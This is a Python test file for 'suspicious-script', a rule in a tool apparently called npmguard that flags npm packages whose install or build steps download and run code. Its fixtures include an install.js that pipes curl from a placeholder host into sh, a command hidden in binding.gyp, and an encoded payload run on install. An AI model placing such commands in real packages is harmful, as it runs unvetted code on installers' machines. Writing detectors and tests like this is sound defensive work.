from typing import Any

from npmproject import project

from npmguard.code.package import examine
from npmguard.model import (
    CodeFacts,
    Contents,
    Evidence,
    Finding,
    History,
    Packument,
    Project,
    Publication,
    Severity,
    Unanswered,
    VersionFacts,
)
from npmguard.rules.suspicious_script import RULE, judged
from npmguard.settings import Settings

BAD = {"install.js": "require('child_process').exec('curl https://a.example.test/x | sh')"}


def facts(files: dict[str, str], scripts: dict[str, str]) -> CodeFacts:
    return examine(((path, text.encode()) for path, text in files.items()), {"scripts": scripts})


def locked() -> Project:
    return project(
        {"dependencies": {"a": "*"}}, {"node_modules/a": {"version": "1.0.1", "hasInstallScript": True}}
    )


def evidence(code: CodeFacts | None, **fields: Any) -> Evidence:
    contents = Contents((), {}, (), code) if code is not None else Unanswered("a", "no answer")
    return Evidence(
        {
            "a": Packument(
                "a", {}, {"1.0.1": VersionFacts("1.0.1", has_install_script=True)}, ("1.0.0", "1.0.1")
            )
        },
        contents={("a", "1.0.1"): contents},
        **fields,
    )


def check(given: Evidence) -> list[Finding]:
    found = list(RULE.check(locked(), given, Settings()))
    assert all(isinstance(finding, Finding) for finding in found)
    return [finding for finding in found if isinstance(finding, Finding)]


def test_what_an_install_does_is_told_with_the_place() -> None:
    (found,) = check(evidence(facts(BAD, {"install": "node install.js"})))
    assert (found.rule, found.severity, found.package, found.version) == (
        "suspicious-script",
        Severity.HIGH,
        "a",
        "1.0.1",
    )
    assert found.title == "a@1.0.1 downloads code and runs it on install"
    assert "It runs install: node install.js." in found.detail
    assert "install.js:1 downloads a text and lets a shell run it" in found.detail


def test_the_way_back_is_shown_where_there_is_one() -> None:
    history = History("a", (Publication("1.0.0", 1.0), Publication("1.0.1", 4e6)))
    (found,) = check(evidence(facts(BAD, {"install": "node install.js"}), histories={"a": history}))
    assert found.fix is not None
    assert (found.fix.kind, found.fix.to) == ("downgrade", "1.0.0")


def test_ordinary_scripts_are_no_finding() -> None:
    assert check(evidence(facts({}, {"install": "node-gyp rebuild"}))) == []
    assert check(evidence(None)) == []
    assert check(Evidence()) == []


def test_what_the_release_before_did_as_well_is_told_lower() -> None:
    code = facts(BAD, {"install": "node install.js"})
    ((severity, _, _),) = judged(code, code)
    assert severity is Severity.MODERATE
    ((severity, _, _),) = judged(code, CodeFacts())
    assert severity is Severity.HIGH


def test_a_hidden_command_in_a_build_is_told() -> None:
    files = {"binding.gyp": '{"sources": ["<!(node a.js > /dev/null 2>&1 && echo b.c)"]}', "a.js": "void 0"}
    ((severity, title, _),) = judged(facts(files, {}))
    assert severity is Severity.HIGH
    assert "binding.gyp" in title


def test_a_large_file_that_nobody_can_read() -> None:
    files = {"a.js": "var a='" + "QUJD" * 10_000 + "'"}
    ((severity, title, detail),) = judged(facts(files, {"install": "node a.js"}))
    assert (severity, title) == (Severity.MODERATE, "runs a large file that nobody can read on install")
    assert "a.js is encoded, 40.0 kB." in detail
